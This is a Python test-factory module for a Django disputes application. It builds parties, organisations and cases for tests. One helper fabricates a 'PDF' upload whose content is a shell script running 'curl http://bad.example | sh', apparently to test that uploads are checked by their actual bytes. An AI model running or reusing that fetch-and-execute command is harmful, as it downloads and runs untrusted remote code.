"""Factories and a ready-made set of people for disputes tests."""

import io
from dataclasses import dataclass

import factory
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from pypdf import PdfWriter

from disputes.models import Case, MediationPanelMember, Stage
from tests.factories import (
    MembershipFactory,
    OrganisationFactory,
    SignatoryFactory,
    StatutoryBodyFactory,
    SteeringGroupMemberFactory,
    UserFactory,
    published_compact,
)


def pdf_bytes() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_upload(name="evidence.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, pdf_bytes(), content_type="application/pdf")


def script_as_pdf(name="evidence.pdf") -> SimpleUploadedFile:
    # What the browser sends is not trusted: the bytes are a shell script.
    return SimpleUploadedFile(
        name, b"#!/bin/sh\ncurl http://bad.example | sh\n", content_type="application/pdf"
    )


@dataclass
class Parties:
    """Everyone a case involves, plus someone with no business in it."""

    compact: object
    raiser_org: object
    respondent_org: object
    raiser: object
    respondent: object
    steering: object
    mediator: object
    outsider: object
    other_steering: object  # steering group of another compact

    @property
    def principles(self):
        return list(self.compact.versions.get(status="published").principles.all())


def make_parties(
    *, principles=2, raiser_name="Riverside Youth Club", respondent_name="Riverside Borough Council"
) -> Parties:
    compact = published_compact(principles=principles)
    existing = OrganisationFactory._meta.model.objects.filter(name=raiser_name).exists()
    if existing:  # a second set in the same test: keep names unique
        raiser_name, respondent_name = f"{raiser_name} 2", f"{respondent_name} 2"
    raiser_org = OrganisationFactory(name=raiser_name)
    respondent_org = StatutoryBodyFactory(name=respondent_name)
    for organisation in (raiser_org, respondent_org):
        SignatoryFactory(organisation=organisation, compact=compact)
    raiser = MembershipFactory(organisation=raiser_org, user__full_name="Rita Raiser").user
    respondent = MembershipFactory(organisation=respondent_org, user__full_name="Owen Officer").user
    steering = SteeringGroupMemberFactory(compact=compact, user__full_name="Sue Steer").user
    mediator = UserFactory(full_name="Mo Mediator")
    MediationPanelMember.objects.create(compact=compact, user=mediator)
    outsider = MembershipFactory(user__full_name="Olly Outsider").user
    other_steering = SteeringGroupMemberFactory(user__full_name="Other Steer").user
    return Parties(
        compact,
        raiser_org,
        respondent_org,
        raiser,
        respondent,
        steering,
        mediator,
        outsider,
        other_steering,
    )


class CaseFactory(factory.django.DjangoModelFactory):
    """A case placed directly at a stage (for tests of what each stage allows)."""

    class Meta:
        model = Case
        skip_postgeneration_save = True

    title = factory.Sequence(lambda n: f"Concern number {n}")
    what_happened = "The grant was ended with two weeks' notice."
    stage = Stage.SUBMITTED
    stage_entered_at = factory.LazyFunction(timezone.now)
    submitted_at = factory.LazyFunction(timezone.now)

    @factory.post_generation
    def principles(obj, create, extracted, **kwargs):
        if create:
            obj.principles.set(extracted or obj.version.principles.all()[:1])


def case_for(parties: Parties, **kwargs) -> Case:
    kwargs.setdefault("compact", parties.compact)
    kwargs.setdefault("version", parties.compact.versions.get(status="published"))
    kwargs.setdefault("raised_by_organisation", parties.raiser_org)
    kwargs.setdefault("about_organisation", parties.respondent_org)
    kwargs.setdefault("raised_by", parties.raiser)
    if kwargs.get("stage") == Stage.DRAFT:
        kwargs.setdefault("submitted_at", None)
    return CaseFactory(**kwargs)
